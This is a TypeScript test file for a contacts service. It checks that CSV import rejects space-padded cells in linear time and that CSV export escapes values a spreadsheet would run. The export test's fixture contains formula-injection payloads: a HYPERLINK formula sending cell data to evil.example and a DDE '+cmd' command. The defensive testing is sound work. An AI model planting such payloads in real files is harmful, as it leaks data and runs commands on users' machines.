import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CONTACT_MESSAGES, type Contact, type ImportResult } from '../../src/contract/contacts';
import { createTestContext, createUser, type TestContext, type TestUser } from '../harness.test-support';

/** Hostile CSV: the import reads in linear time, and nothing it writes runs in a spreadsheet. */

let t: TestContext;
let user: TestUser;
let profileId: string;

beforeAll(async () => {
  t = await createTestContext();
  user = await createUser(t);
  profileId = (await t.api.get('/v1/profiles').set(user.headers)).body.data[0].id;
});
afterAll(async () => t.close());

const upload = (csv: string, as: TestUser = user, into = profileId) =>
  t.api
    .post(`/v1/contacts/${into}/csv/import`)
    .set(as.headers)
    .field('validOnly', 'true')
    .attach('file', Buffer.from(csv), { filename: 'contacts.csv', contentType: 'text/csv' });

const exportCsv = (as: TestUser, body: Record<string, unknown>) =>
  t.api
    .post('/v1/contacts/csv/export')
    .set(as.headers)
    .send(body)
    .buffer(true)
    .parse((res, done) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (chunk: string) => (text += chunk));
      res.on('end', () => done(null, text));
    });

async function contactsNamed(firstName: string): Promise<Contact[]> {
  const res = await t.api.get('/v1/contacts').set(user.headers).query({ q: firstName, limit: 100 });
  return (res.body.data as Contact[]).filter((c) => c.firstName === firstName);
}

describe('CSV import of cells made of long runs of spaces', () => {
  it('refuses over-long cells in the columns it reads and splits the others in linear time', async () => {
    // Each of these cells took the old splitter about 9 s; 80 of them (a 5 MB file) pinned an instance for 12 minutes.
    const hostile = Array.from({ length: 80 }, (_, i) => `Spacey${i},a@x.test${' '.repeat(60_000)}b@x.test,`);
    const csv = [
      'First Name,Email,Notes',
      ...hostile,
      // Under the cap: spaces around the separators are trimmed away, values kept.
      `Wide,wide1@x.test${' '.repeat(5_000)};${' '.repeat(5_000)}wide2@x.test ::: wide3@x.test,${' '.repeat(11_000)}`,
    ].join('\n');
    expect(csv.length).toBeGreaterThan(4_800_000);
    const res = await upload(csv);
    expect(res.status).toBe(201);
    const result = res.body.data as ImportResult;
    expect(result.imported).toBe(1);
    expect(result.errors).toHaveLength(80);
    expect(result.errors[0]).toEqual({ row: 2, field: 'email', message: CONTACT_MESSAGES.rowTooLong });
    expect(result.errors.every((e) => e.message === CONTACT_MESSAGES.rowTooLong)).toBe(true);
    const [wide] = await contactsNamed('Wide');
    expect(wide.email).toBe('wide1@x.test');
    expect(wide.otherEmails).toEqual(['wide2@x.test', 'wide3@x.test']);
    expect(await contactsNamed('Spacey0')).toEqual([]);
  });
});

describe('CSV export of values a spreadsheet would run', () => {
  const hostile = {
    firstName: '=HYPERLINK("https://evil.example/?d="&A2,"Click")',
    lastName: '@SUM(1+1)',
    company: '-2+3',
    note: '+cmd|" /C calc"!A0',
    phoneNumber: '+1 415 555 0101',
    email: 'hostile@x.test',
  };

  it('puts an apostrophe before every cell starting with = + - @ tab or CR but a phone number, and the import takes it off again', async () => {
    const created = await t.api.post('/v1/contacts').set(user.headers).send(hostile);
    expect(created.status).toBe(201);
    const res = await exportCsv(user, { ids: [created.body.data.id] });
    expect(res.status).toBe(200);
    const [row] = parseCsv(res.body as string, { bom: true, columns: true }) as Record<string, string>[];
    expect(row).toMatchObject({
      'First Name': `'${hostile.firstName}`,
      'Last Name': `'${hostile.lastName}`,
      Company: `'${hostile.company}`,
      Notes: `'${hostile.note}`,
      // A + before a phone number calls nothing: the number stays as written.
      Phone: hostile.phoneNumber,
      Email: hostile.email,
    });

    const other = await createUser(t);
    const otherProfile = (await t.api.get('/v1/profiles').set(other.headers)).body.data[0].id;
    const imported = await upload(res.body as string, other, otherProfile);
    expect(imported.status).toBe(201);
    expect(imported.body.data.imported).toBe(1);
    const [back] = (await t.api.get('/v1/contacts').set(other.headers)).body.data as Contact[];
    expect(back).toMatchObject(hostile);
  });
});
